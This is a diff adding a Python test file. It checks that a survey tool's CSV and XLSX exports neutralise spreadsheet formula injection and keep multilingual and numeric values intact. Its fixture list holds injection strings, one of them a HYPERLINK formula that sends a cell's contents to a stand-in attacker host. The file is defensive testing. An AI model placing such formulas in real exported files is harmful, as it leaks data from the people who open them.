@@ -1,0 +1,108 @@
+"""CSV and XLSX exports: formula injection neutralised, values round-trip."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from openpyxl import load_workbook
+
+from survey.workspace.exports import neutralise, to_csv, to_xlsx
+
+NASTY = [
+    "=1+1",
+    "+44 7700 900123",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=cmd",
+    "\r=cmd",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "  =1+1",
+    "＝1+1",
+]
+ROWS = [
+    {"id": 1, "text": "=1+1", "score": -3, "share": 12.5, "flag": True},
+    {"id": 2, "text": "Rydw i'n hoffi'r ysgol ŵ ŷ", "score": 0, "share": None, "flag": False},
+    {"id": 3, "text": "أريد مكانا آمنا للعب", "score": 7, "share": 0.25, "flag": None},
+    {"id": 4, "text": 'line one\nline two, with comma "quoted"', "score": -1.5},
+    *[{"id": 10 + i, "text": t, "score": i} for i, t in enumerate(NASTY)],
+]
+COLUMNS = ["id", "text", "score", "share", "flag"]
+
+
+@pytest.mark.parametrize("text", NASTY)
+def test_neutralise_prefixes_formula_starts(text):
+    assert neutralise(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", ["hello", "1+1", "", "a=b", "'already"])
+def test_neutralise_leaves_plain_text(text):
+    assert neutralise(text) == text
+
+
+def _read_csv(data: bytes) -> list[list[str]]:
+    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+def test_csv_round_trips_and_neutralises():
+    table = _read_csv(to_csv(ROWS, COLUMNS))
+    assert table[0] == COLUMNS
+    by_id = {row[0]: row for row in table[1:]}
+    assert by_id["1"] == ["1", "'=1+1", "-3", "12.5", "Yes"]
+    assert by_id["2"][1] == "Rydw i'n hoffi'r ysgol ŵ ŷ"
+    assert by_id["2"][3] == ""  # None is an empty cell
+    assert by_id["3"][1] == "أريد مكانا آمنا للعب"
+    assert by_id["4"][1] == 'line one\nline two, with comma "quoted"'
+    assert by_id["4"][2] == "-1.5"  # a real negative number stays a number
+    for i, text in enumerate(NASTY):
+        assert by_id[str(10 + i)][1] == "'" + text
+    for row in table:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+            if cell.startswith("-"):
+                float(cell)  # only numbers may start with a minus
+
+
+def test_csv_headings_are_neutralised_and_can_be_relabelled():
+    table = _read_csv(to_csv([{"a": 1}], [("a", "=evil heading")]))
+    assert table == [["'=evil heading"], ["1"]]
+
+
+def test_csv_leaves_out_unlisted_columns():
+    table = _read_csv(to_csv([{"a": 1, "secret": "x"}], ["a"]))
+    assert table == [["a"], ["1"]]
+
+
+def test_xlsx_never_holds_a_formula_and_values_round_trip():
+    data = to_xlsx({"responses": (COLUMNS, ROWS), "empty": (["a"], [])})
+    wb = load_workbook(io.BytesIO(data))
+    assert wb.sheetnames == ["responses", "empty"]
+    ws = wb["responses"]
+    cells = [c for row in ws.iter_rows() for c in row]
+    assert cells and all(c.data_type != "f" for c in cells)
+    values = [[c.value for c in row] for row in ws.iter_rows()]
+    assert values[0] == COLUMNS
+    assert values[1] == [1, "'=1+1", -3, 12.5, "Yes"]
+    assert ws["C2"].data_type == "n"  # -3 is a number
+    assert ws["B2"].data_type == "s"
+    assert values[3][1] == "أريد مكانا آمنا للعب"
+    for i, text in enumerate(NASTY):
+        # XML readers turn a stored carriage return into a line feed
+        assert values[5 + i][1] == "'" + text.replace("\r", "\n")
+        assert ws.cell(row=6 + i, column=2).data_type == "s"
+    assert wb.properties.creator == "Have Your Say"
+
+
+def test_xlsx_sheet_names_are_made_legal_and_unique():
+    data = to_xlsx({"a/b": (["x"], []), "A_b": (["x"], []), "x" * 40: (["x"], [])})
+    names = load_workbook(io.BytesIO(data)).sheetnames
+    assert names[0] == "a_b" and names[1] == "A_b (2)"
+    assert len(names[2]) == 31
+
+
+def test_xlsx_survives_control_characters():
+    data = to_xlsx({"s": (["t"], [{"t": "bad\x01char"}])})
+    ws = load_workbook(io.BytesIO(data))["s"]
+    assert ws["A2"].value == "bad\ufffdchar"
